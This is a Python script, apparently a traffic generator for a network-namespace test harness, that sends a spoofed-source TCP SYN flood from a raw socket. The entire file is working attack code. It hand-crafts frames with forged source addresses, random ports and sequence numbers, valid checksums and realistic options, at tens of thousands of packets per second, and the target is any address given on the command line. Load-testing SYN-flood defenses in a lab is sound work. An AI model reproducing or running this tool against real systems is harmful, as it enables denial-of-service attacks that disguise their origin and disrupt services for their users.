#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""Spoofed-source SYN flood for tcp_synflood.sh, from a raw AF_PACKET socket.

  ip netns exec mg-client /usr/bin/python3 tcp_synflood.py --iface eth0 \
      --gw-mac 02:00:c6:12:01:01 --dst 198.18.1.1:8080 --count 100000 --rate 20000

Every SYN has a source address drawn from --src-net (default: hosts .16-.250 of
198.18.1.0/24, none of which exists, so no SYN-ACK is ever answered), a random
source port, ISN and a realistic option set (MSS, SACK-permitted, timestamps,
window scale), with correct IPv4 and TCP checksums. Frames are built with struct,
not scapy, to reach tens of thousands per second. Bounded by --count and
--max-seconds; prints {"sent": N, "seconds": S} as JSON.
"""

import argparse
import ipaddress
import json
import random
import socket
import struct
import time

from rawframe import csum, mac



def syn_frame(dmac, smac, src, dst, sport, dport, isn, ts):
    opts = struct.pack("!BBH", 2, 4, 1460) + b"\x04\x02" + \
        struct.pack("!BBII", 8, 10, ts, 0) + b"\x01" + struct.pack("!BBB", 3, 3, 7)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, isn, 0, (20 + len(opts)) // 4 << 4,
                      0x02, 64240, 0, 0) + opts
    pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16),
                     0x4000, 64, 6, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return dmac + smac + b"\x08\x00" + ip + tcp


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--iface", default="eth0")
    ap.add_argument("--gw-mac", required=True)
    ap.add_argument("--dst", required=True)
    ap.add_argument("--src-net", default="198.18.1.0/24")
    ap.add_argument("--src-hosts", default="16-250")
    ap.add_argument("--count", type=int, default=100000)
    ap.add_argument("--rate", type=int, default=20000)
    ap.add_argument("--max-seconds", type=float, default=30)
    ap.add_argument("--seed", type=int, default=1)
    a = ap.parse_args()
    random.seed(a.seed)
    net = ipaddress.ip_network(a.src_net)
    lo, hi = (int(x) for x in a.src_hosts.split("-"))
    base = int(net.network_address)
    dhost, dport = a.dst.rsplit(":", 1)
    dst, dport = socket.inet_aton(dhost), int(dport)
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((a.iface, 0))
    smac = s.getsockname()[4]
    dmac = mac(a.gw_mac)
    t0 = time.monotonic()
    sent = 0
    while sent < a.count:
        now = time.monotonic() - t0
        if now > a.max_seconds:
            break
        if sent > now * a.rate:
            time.sleep(0.001)
            continue
        for _ in range(min(64, a.count - sent)):
            src = struct.pack("!I", base + random.randint(lo, hi))
            f = syn_frame(dmac, smac, src, dst, random.randint(1024, 65535), dport,
                          random.getrandbits(32), random.getrandbits(32))
            try:
                s.send(f)
            except OSError:  # ENOBUFS: the qdisc is full; back off a little
                time.sleep(0.001)
                continue
            sent += 1
    print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - t0, 2)}), flush=True)


if __name__ == "__main__":
    main()
